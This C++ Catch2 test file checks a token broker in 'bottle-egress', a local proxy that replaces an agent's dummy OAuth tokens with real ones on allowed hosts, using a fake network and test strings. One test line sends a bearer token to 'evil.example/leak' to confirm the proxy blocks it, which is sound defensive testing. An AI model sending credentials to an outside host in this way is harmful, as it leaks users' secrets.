// bottle-egress's token broker: fake_net.py plays the vendor's token endpoint and the
// model host behind a parent proxy standing in for pipelock, bottle-egress answers
// the agent's refreshes with TokenBroker and swaps the dummies it minted. All on
// 127.0.0.1; token values are test strings; assertions test booleans so none is printed.
#include <sys/stat.h>
#include <catch2/catch.hpp>

#include <boost/json.hpp>
#include <ctime>
#include <future>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "bottle/credentials/jwt.hpp"
#include "bottle/egress/broker_dummy_store.hpp"
#include "bottle/egress/egress_audit.hpp"
#include "bottle/egress/egress_config.hpp"
#include "net_harness.hpp"
#include "test_paths.hpp"

namespace {

namespace json = boost::json;
using namespace net_harness;

const std::string codex_dummy_at = "dummy-codex-access-0001";
const std::string codex_dummy_rt = "bottle-dummy-refresh-0001";
const std::string codex_token_url = "https://auth.openai.com/oauth/token";
const std::string codex_client = "app_EMoamEEZ73f0CkXaXp7hrann";

std::int64_t now_s() { return static_cast<std::int64_t>(std::time(nullptr)); }

std::string b64url(const std::string& s) {
  static const char* abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  std::string out;
  unsigned val = 0;
  int bits = -6;
  for (const unsigned char c : s) {
    val = (val << 8) + c;
    bits += 8;
    while (bits >= 0) {
      out.push_back(abc[(val >> bits) & 0x3F]);
      bits -= 6;
    }
  }
  if (bits > -6) out.push_back(abc[((val << 8) >> (bits + 8)) & 0x3F]);
  return out;
}

std::string real_jwt(std::int64_t exp, const std::string& tag) {
  const json::object auth{{"chatgpt_account_id", "acct-1"}, {"chatgpt_plan_type", "plus"}};
  const json::object payload{{"exp", exp}, {"iat", exp - 3600}, {"tag", tag}, {"https://api.openai.com/auth", auth}};
  return b64url(R"({"alg":"RS256"})") + "." + b64url(json::serialize(payload)) + "." + b64url("sig");
}

std::string codex_host_auth(std::int64_t exp) {
  const json::object tokens{{"id_token", real_jwt(exp, "real-id")},
                            {"access_token", real_jwt(exp, "real-access")},
                            {"refresh_token", "rt-0"},
                            {"account_id", "acct-1"}};
  return json::serialize(json::object{{"auth_mode", "chatgpt"}, {"tokens", tokens}, {"keep_me", "yes"}});
}

void run_ok(const std::vector<std::string>& argv) {
  const auto r = run(argv);
  INFO(r.err);
  REQUIRE(r.ok());
}

// The fake network with its token endpoint, and bottle-egress (restartable) in front.
class BrokerNativeEgress {
 public:
  explicit BrokerNativeEgress(const fs::path& host_file) {
    const std::string d = dir_.path().string();
    write_file(dir_.path() / "ext.cnf",
               "basicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n"
               "subjectAltName=DNS:chatgpt.com,DNS:auth.openai.com\n");
    const std::vector<std::string> ec = {"-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"};
    auto req = [&](std::vector<std::string> tail) {
      std::vector<std::string> argv = {"openssl", "req"};
      argv.insert(argv.end(), ec.begin(), ec.end());
      argv.insert(argv.end(), tail.begin(), tail.end());
      run_ok(argv);
    };
    req({"-x509", "-keyout", d + "/up-ca.key", "-out", d + "/up-ca.pem", "-days", "2", "-subj", "/CN=upstream CA"});
    req({"-keyout", d + "/server.key", "-out", d + "/server.csr", "-subj", "/CN=auth.openai.com"});
    run_ok({"openssl", "x509", "-req", "-in", d + "/server.csr", "-CA", d + "/up-ca.pem", "-CAkey", d + "/up-ca.key",
            "-CAcreateserial", "-out", d + "/server.pem", "-days", "2", "-extfile", d + "/ext.cnf"});
    req({"-x509", "-keyout", d + "/ca.key", "-out", ca().string(), "-days", "2", "-subj", "/CN=bottle test CA",
         "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign,cRLSign"});
    write_file(dir_.path() / "bottle-ca.pem", read_file(dir_.path() / "ca.key") + read_file(ca()));

    replace_file(tokens(), R"({"mode": "rotate", "refresh_token": "rt-0", "count": 0})");
    net_.emplace(std::vector<std::string>{"env", "FAKE_NET_TOKENS=" + tokens().string(), "python3", fake_net_script(),
                                          "serve", d + "/server.pem", d + "/server.key", d + "/ports.json",
                                          upstream_log().string(), d + "/parent.log"},
                 dir_.path() / "fake_net.out");
    REQUIRE(wait_until([&] { return fs::exists(dir_.path() / "ports.json"); }, 20s));
    parent_port_ = json::parse(read_file(dir_.path() / "ports.json")).as_object().at("parent").as_int64();

    auto broker = bottle::codex_egress_broker();
    broker.dummy_refresh_tokens = {codex_dummy_rt};
    write_file(dir_.path() / "routes.json",
               bottle::render_egress_routes({{.name = "codex-chatgpt",
                                              .hosts = {"chatgpt.com"},
                                              .header = "Authorization",
                                              .dummy = codex_dummy_at,
                                              .value_file = host_file.string(),
                                              .value_json_pointer = "/tokens/access_token"}},
                                            {{"codex-chatgpt", broker}}));
    fs::create_directories(confdir());
    write_file(confdir() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
    port_ = free_port();
    start();
  }

  void start() {
    egress_.emplace(
        std::vector<std::string>{"env", "-u", "BOTTLE_EGRESS_UPSTREAM_CA", test_paths::bottle_egress, "--listen",
                                 "127.0.0.1:" + std::to_string(port_), "--ca", path("bottle-ca.pem").string(),
                                 "--routes", path("routes.json").string(), "--parent-proxy",
                                 "http://127.0.0.1:" + std::to_string(parent_port_), "--upstream-ca",
                                 path("up-ca.pem").string(), "--confdir", confdir().string()},
        log());
    const bool ready = wait_until([&] { return !egress_->running() || contains(read_file(log()), R"("ready")"); }, 20s);
    INFO("egress log:\n" << read_file(log()));
    REQUIRE(ready);
    REQUIRE(egress_->running());
  }
  void restart() {
    egress_.reset();
    REQUIRE(wait_until([&] { return !port_open(port_); }, 10s));
    replace_file(log(), "");
    start();
  }

  fs::path path(const std::string& name) const { return dir_.path() / name; }
  fs::path tokens() const { return path("tokens.json"); }
  fs::path log() const { return path("egress.log"); }
  fs::path upstream_log() const { return path("upstream.log"); }
  fs::path ca() const { return path("ca-cert.pem"); }
  fs::path confdir() const { return path("conf"); }

  // Thread-safe (no Catch2 macros): status -1 when curl itself failed.
  std::pair<int, std::string> curl(const std::string& url, const std::vector<std::string>& extra = {}) const {
    std::vector<std::string> argv = {"curl",       "-sS",
                                     "--max-time", "40",
                                     "--noproxy",  "",
                                     "--proxy",    "http://127.0.0.1:" + std::to_string(port_),
                                     "--cacert",   ca().string(),
                                     "-w",         "\n%{http_code}",
                                     url};
    argv.insert(argv.end(), extra.begin(), extra.end());
    bottle::SystemRunner runner;
    const auto r = runner.run({.argv = std::move(argv)});
    if (!r.ok()) return {-1, r.err};
    const auto nl = r.out.rfind('\n');
    return {std::stoi(r.out.substr(nl + 1)), r.out.substr(0, nl)};
  }
  std::pair<int, std::string> refresh() const {
    const json::object body{
        {"client_id", codex_client}, {"grant_type", "refresh_token"}, {"refresh_token", codex_dummy_rt}};
    return curl(codex_token_url, {"-H", "Content-Type: application/json", "--data", json::serialize(body)});
  }
  int refreshes_served() const {
    return static_cast<int>(json::parse(read_file(tokens())).as_object().at("count").as_int64());
  }
  std::optional<std::string> upstream_header(const std::string& url_path, const std::string& name) const {
    std::optional<std::string> found;
    std::istringstream lines(read_file(upstream_log()));
    for (std::string line; std::getline(lines, line);) {
      const auto rec = json::parse(line).as_object();
      if (rec.at("path").as_string() != url_path) continue;
      const auto& headers = rec.at("headers").as_object();
      found = headers.contains(name) ? std::string(headers.at(name).as_string()) : "<none>";
    }
    return found;
  }

 private:
  TempDir dir_;
  std::optional<Daemon> net_;
  std::optional<Daemon> egress_;
  std::int64_t parent_port_ = 0;
  std::uint16_t port_ = 0;
};

json::object jwt_payload(const json::value& token) {
  return bottle::decode_jwt(std::string(token.as_string()), "token").payload;
}

}  // namespace

TEST_CASE("bottle-egress broker: an expiring host login is refreshed once, and the new dummy is swapped",
          "[native-egress]") {
  TempDir host;
  const fs::path host_file = host.path() / "auth.json";
  write_file(host_file, codex_host_auth(now_s() + 60));  // inside the refresh window
  fs::permissions(host_file, fs::perms(0640));
  BrokerNativeEgress egress(host_file);

  // Three refreshes at once: one upstream refresh, every agent gets dummies.
  std::vector<std::future<std::pair<int, std::string>>> pending;
  for (int i = 0; i < 3; ++i) pending.push_back(std::async(std::launch::async, [&] { return egress.refresh(); }));
  std::vector<std::pair<int, std::string>> replies;
  for (auto& p : pending) replies.push_back(p.get());
  CHECK(egress.refreshes_served() == 1);

  // The host file is written back: rotated tokens, other fields and the mode kept.
  const auto host_doc = json::parse(read_file(host_file)).as_object();
  const auto& tokens = host_doc.at("tokens").as_object();
  CHECK(tokens.at("refresh_token") == "rt-1");
  CHECK(host_doc.at("keep_me") == "yes");
  CHECK((fs::status(host_file).permissions() & fs::perms::all) == fs::perms(0640));
  const std::string real_at(tokens.at("access_token").as_string());
  const std::int64_t new_exp = jwt_payload(tokens.at("access_token")).at("exp").as_int64();
  CHECK(new_exp > now_s() + 86400);

  std::optional<std::string> new_dummy;
  for (const auto& [status, body] : replies) {
    CHECK(status == 200);
    if (status != 200) continue;
    const auto answer = json::parse(body).as_object();
    CHECK(answer.at("refresh_token") == json::value(codex_dummy_rt));  // the bottle keeps its placeholder
    const auto payload = jwt_payload(answer.at("access_token"));
    CHECK(payload.at("exp").as_int64() == new_exp);
    CHECK(payload.at("bottle_dummy").as_bool());
    CHECK_FALSE(contains(body, real_at));
    CHECK_FALSE(contains(body, "rt-1"));
    new_dummy = std::string(answer.at("access_token").as_string());
  }
  REQUIRE(new_dummy);
  // The placeholder refresh token never went upstream; the token endpoint got the real one.
  CHECK_FALSE(contains(read_file(egress.upstream_log()), codex_dummy_rt));

  // The agent's next request with the new dummy is swapped to the new real token.
  CHECK(egress.curl("https://chatgpt.com/with-new-dummy", {"-H", "Authorization: Bearer " + *new_dummy}).first == 200);
  CHECK((egress.upstream_header("/with-new-dummy", "Authorization") == "Bearer " + real_at));
  // Sent anywhere else, the new dummy is blocked like the original.
  CHECK(egress.curl("https://evil.example/leak", {"-H", "Authorization: Bearer " + *new_dummy}).first == 403);

  // Persisted like the addon's DummyStore (0600), so a restarted egress still swaps it.
  const fs::path state = egress.confdir() / std::string(bottle::broker_state_file_name);
  REQUIRE(fs::exists(state));
  CHECK((fs::status(state).permissions() & fs::perms::all) == fs::perms(0600));
  egress.restart();
  CHECK(egress.curl("https://chatgpt.com/after-restart", {"-H", "Authorization: Bearer " + *new_dummy}).first == 200);
  CHECK((egress.upstream_header("/after-restart", "Authorization") == "Bearer " + real_at));

  // The audit log has the broker's answers, and no dummy or real value.
  const std::string audit = read_file(egress.confdir() / "audit.jsonl");
  const auto records = bottle::parse_audit_lines(audit, "audit").records;
  CHECK(std::count_if(records.begin(), records.end(), [](const bottle::AuditRecord& r) {
          return r.action == "broker" && r.route == "codex-chatgpt" && r.status == 200 && r.path == "/oauth/token";
        }) == 3);
  CHECK_FALSE(contains(audit, *new_dummy));
  CHECK_FALSE(contains(audit, real_at));
  CHECK_FALSE(contains(audit, codex_dummy_rt));
}

TEST_CASE("bottle-egress broker: a dead host session is the agent's sign-in-again answer", "[native-egress]") {
  TempDir host;
  const fs::path host_file = host.path() / "auth.json";
  write_file(host_file, codex_host_auth(now_s() + 60));
  BrokerNativeEgress egress(host_file);
  replace_file(egress.tokens(), R"({"mode": "dead", "refresh_token": "rt-0", "count": 0})");
  const auto [status, body] = egress.refresh();
  INFO("egress log:\n" << read_file(egress.log()) << "\ncurl: " << body);
  CHECK(status == 401);
  CHECK(contains(body, "refresh_token_expired"));
  // Not over TLS: refused, never answered or forwarded.
  CHECK(egress.curl("http://auth.openai.com/oauth/token", {"--data", "grant_type=refresh_token"}).first == 403);
  CHECK(json::parse(read_file(host_file)).at("tokens").at("refresh_token") == "rt-0");
}
